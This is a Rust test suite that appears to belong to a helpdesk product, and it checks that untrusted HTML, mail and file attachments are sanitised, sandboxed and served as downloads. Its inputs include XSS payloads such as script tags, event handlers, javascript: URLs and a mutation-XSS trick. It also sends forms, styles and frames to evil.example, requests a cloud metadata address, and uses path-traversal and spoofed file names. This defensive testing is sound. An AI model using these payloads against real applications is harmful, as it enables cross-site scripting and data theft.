//! What strangers wrote, as the desk gets it: a document of its own in a sandbox, in which nothing runs, nothing is loaded from
//! elsewhere unless asked, and nothing leaves its box. Files come as downloads that no browser runs.

use crate::desk::{Browser, agent, mail};
use crate::http_client::Answer;
use crate::product::{Product, kettle};
use data_encoding::BASE64;
use serde_json::{Value, json};

const SARA: &str = "sara@agents.example";

/// The document of a message with this HTML.
fn document(product: &Product, browser: &Browser<'_>, html: &str, query: &str) -> Answer {
    let mut body = kettle();
    body["messages"] = json!([{ "author": "contact", "text": "x", "html": html }]);
    let began = product.begin(&body);
    assert_eq!(began.status, 201, "{began:?}");
    let message = began.json()["messages"][0]["id"].as_str().expect("an id").to_owned();
    browser.get(&format!("/api/v1/messages/{message}/html{query}"))
}

fn body_of(page: &Answer) -> &str {
    page.body.split_once("<body>").map_or("", |(_, body)| body)
}

#[test]
fn no_trick_of_a_stranger_runs_loads_or_leaves_its_box() {
    let product = Product::start();
    agent(&product, "acme", SARA, None);
    let browser = Browser::of(&product, SARA);
    for trick in [
        "<script>alert(1)</script><p>words</p>",
        "<p>words</p><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)><p>words</p>",
        "<p>words</p><style>@import url(//evil.example/x.css)</style>",
        "<base href=//evil.example/><p>words</p>",
        "<p>words</p><form action=//evil.example/><input name=password></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example'><p>words</p>",
        "<p>words</p><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<p>words</p><a href=\"javascript:alert(1)\">x</a><a href=\"java\tscript:alert(1)\">x</a>",
        "<p>words</p><a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<p>words</p><img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">words</div>",
        "<div style=\"width:expression(alert(1))\">words</div>",
        "<div style=\"background:url(http://evil.example/x)\">words</div>",
        "<!--[if IE]><script>alert(1)</script><![endif]--><p>words</p>",
        "<iframe src=//evil.example></iframe><p>words</p>",
        "<object data=//evil.example></object><embed src=//evil.example><p>words</p>",
        "<link rel=stylesheet href=//evil.example><p>words</p>",
        "<p onclick=alert(1) id=x class=y>words</p>",
        "<video src=http://evil.example/v poster=http://evil.example/p></video><p>words</p>",
        "<p>words</p><img srcset=\"http://evil.example/x 2x\">",
        "<p>words</p><img src=\"file:///etc/passwd\">",
        "<p>words</p></body></html><script>alert(1)</script>",
    ] {
        let page = document(&product, &browser, trick, "");
        assert_eq!(page.status, 200, "{trick}: {page:?}");
        let (body, lower) = (body_of(&page), body_of(&page).to_lowercase());
        assert!(body.contains("words"), "{trick}: {body}");
        for bad in [
            "<script",
            "<svg",
            "<math",
            "<style",
            "<base",
            "<form",
            "<input",
            "<meta",
            "<iframe",
            "<object",
            "<embed",
            "<link",
            "<video",
            "javascript:",
            " onerror=alert",
            " onclick",
            " onload",
            "position",
            "expression",
            "url(",
            "srcset",
            "file:",
            " src=\"http",
            " src=\"data:",
            " href=\"data:",
            "<!--",
        ] {
            let shown_as_text = bad == " onerror=alert" && lower.contains("&lt;img");
            assert!(!lower.contains(bad) || shown_as_text, "{bad} of {trick} is in {body}");
        }
        for part in [
            "content-security-policy: sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox; default-src 'none'",
            "img-src data:;",
            "frame-ancestors 'self'",
            "form-action 'none'",
            "x-content-type-options: nosniff",
            "referrer-policy: no-referrer",
            "content-type: text/html; charset=utf-8",
        ] {
            assert!(page.head.contains(part), "{part}: {}", page.head);
        }
        assert!(!page.head.contains("allow-scripts") && !page.head.contains("script-src"), "{}", page.head);
    }
    product.stop();
}

#[test]
fn remote_pictures_are_loaded_only_when_asked() {
    let product = Product::start();
    agent(&product, "acme", SARA, None);
    let browser = Browser::of(&product, SARA);
    let html = "<p>words</p><img src=\"http://169.254.169.254/latest/\"><img src=\"https://track.example/p.gif\">";
    let blocked = document(&product, &browser, html, "");
    assert_eq!(body_of(&blocked).matches("data-remote-src=").count(), 2, "{}", blocked.body);
    assert!(!body_of(&blocked).contains(" src="), "{}", blocked.body);
    let allowed = document(&product, &browser, html, "?images=allow");
    assert_eq!(body_of(&allowed).matches(" src=\"http").count(), 2, "{}", allowed.body);
    assert!(allowed.head.contains("img-src data: https: http:;"), "{}", allowed.head);
    assert_eq!(document(&product, &browser, html, "?images=yes").status, 422);
    product.stop();
}

#[test]
fn what_cannot_be_shown_safely_is_not_shown() {
    let product = Product::start();
    agent(&product, "acme", SARA, None);
    let browser = Browser::of(&product, SARA);
    assert_eq!(document(&product, &browser, &"<div>".repeat(20_000), "").status, 404);
    let mut plain = kettle();
    plain["account"] = json!("acme");
    let message = product.begin(&plain).json()["messages"][0]["id"].as_str().expect("an id").to_owned();
    for what in ["html", "raw"] {
        assert_eq!(
            browser.get(&format!("/api/v1/messages/{message}/{what}")).status,
            404,
            "it is neither HTML nor a mail"
        );
        assert_eq!(browser.get(&format!("/api/v1/messages/aaaaaaaaaaaaa/{what}")).status, 404);
    }
    product.stop();
}

/// What a mail client writes: text that shows a picture of the same mail, and one of another.
const WITH_PICTURES: &str = "Subject: pictures\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n\
    --b\r\nContent-Type: text/html\r\n\r\n<p>words</p><img src=\"cid:own@x\"><img src=\"cid:other@x\"><img src=\"cid:lie@x\">\r\n\
    --b\r\nContent-Type: image/gif\r\nContent-ID: <own@x>\r\nContent-Transfer-Encoding: base64\r\n\r\nR0lGODlhAQABAAAAACw=\r\n\
    --b\r\nContent-Type: image/gif\r\nContent-ID: <lie@x>\r\n\r\n<svg onload=alert(1)>\r\n--b--";

#[test]
fn a_mails_own_pictures_are_in_its_document_and_its_octets_a_click_away() {
    let product = Product::start();
    agent(&product, "acme", SARA, None);
    let browser = Browser::of(&product, SARA);
    let mut heard = browser.listen();
    mail(&product, "support@acme.example", WITH_PICTURES);
    heard.until("event: message.created");
    let listed = browser.get("/api/v1/conversations").json();
    let path = format!("/api/v1/conversations/{}/messages", listed["items"][0]["id"].as_str().expect("an id"));
    let message = browser.get(&path).json()["items"][0]["id"].as_str().expect("an id").to_owned();
    let page = browser.get(&format!("/api/v1/messages/{message}/html"));
    let body = body_of(&page);
    assert!(body.contains("<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\""), "{body}");
    assert_eq!(body.matches("<img src=\"\"").count(), 2, "{body}");
    assert!(!body.contains("svg"), "{body}");
    let raw = browser.get(&format!("/api/v1/messages/{message}/raw"));
    assert!(raw.body.contains("Content-ID: <own@x>"), "{}", raw.body);
    for part in
        ["content-type: message/rfc822", "content-disposition: attachment;", "content-security-policy: sandbox;"]
    {
        assert!(raw.head.contains(part), "{part}: {}", raw.head);
    }
    product.stop();
}

#[test]
fn another_accounts_message_looks_like_none() {
    let product = Product::start();
    agent(&product, "bolt", SARA, None);
    let browser = Browser::of(&product, SARA);
    assert_eq!(document(&product, &browser, "<p>x</p>", "").status, 404);
    product.stop();
}

#[test]
fn files_are_downloads_whatever_they_say_they_are() {
    let product = Product::start();
    agent(&product, "acme", SARA, None);
    let browser = Browser::of(&product, SARA);
    for (name, media_type, content) in [
        ("../../etc/passwd", "text/plain", "x"),
        ("C:\\x", "text/plain", "x"),
        ("a\u{202e}gpj.exe", "image/jpeg", "x"),
        ("a.pdf.exe", "application/pdf", "x"),
        ("con", "text/plain", "x"),
        ("a\"b;c", "text/plain", "x"),
        ("x.html", "image/png", "<script>alert(1)</script>"),
        ("x.svg", "image/svg+xml", "<svg onload=alert(1)>"),
        ("x.html", "text/html", "<script>alert(1)</script>"),
    ] {
        let mut body = kettle();
        let file = json!({ "name": name, "type": media_type, "content": BASE64.encode(content.as_bytes()) });
        body["messages"] = json!([{ "author": "contact", "text": "x", "attachments": [file] }]);
        let began = product.begin(&body).json();
        let attachment: &Value = &began["messages"][0]["attachments"][0];
        let shown = attachment["name"].as_str().expect("a name");
        assert!(!shown.contains(['/', '\\', '\u{202e}', '\0', '\r', '\n']), "{name:?} is shown as {shown:?}");
        let download = browser.get(attachment["url"].as_str().expect("an address"));
        assert_eq!(download.status, 200, "{download:?}");
        for part in [
            "content-type: application/octet-stream",
            "content-disposition: attachment; filename*=utf-8''",
            "x-content-type-options: nosniff",
            "content-security-policy: sandbox; default-src 'none'",
        ] {
            assert!(download.head.contains(part), "{name:?}: {part} is missing: {}", download.head);
        }
    }
    product.stop();
}

#[test]
fn what_a_stranger_writes_elsewhere_stays_text() {
    let product = Product::start();
    agent(&product, "acme", SARA, None);
    let browser = Browser::of(&product, SARA);
    let mut body = kettle();
    body["subject"] = json!("</script><script>alert(1)</script>\u{2028}");
    body["contact"]["name"] = json!("<img src=x onerror=alert(1)>");
    product.begin(&body);
    let listed = browser.get("/api/v1/conversations");
    assert!(listed.head.contains("content-type: application/json"), "{}", listed.head);
    assert!(listed.head.contains("content-security-policy: default-src 'none'"), "{}", listed.head);
    assert!(listed.head.contains("x-content-type-options: nosniff"), "{}", listed.head);
    let refused = Browser::new(&product).sign_in("\"><script>alert(1)</script>@a.example", "something else");
    assert!(!refused.body.contains("<script>"), "{}", refused.body);
    for control in ["a\u{1b}[2J", "a\r\nb"] {
        let mut body = kettle();
        body["subject"] = json!(control);
        assert_eq!(product.begin(&body).status, 422, "{control:?} reaches no log and no terminal");
    }
    product.stop();
}
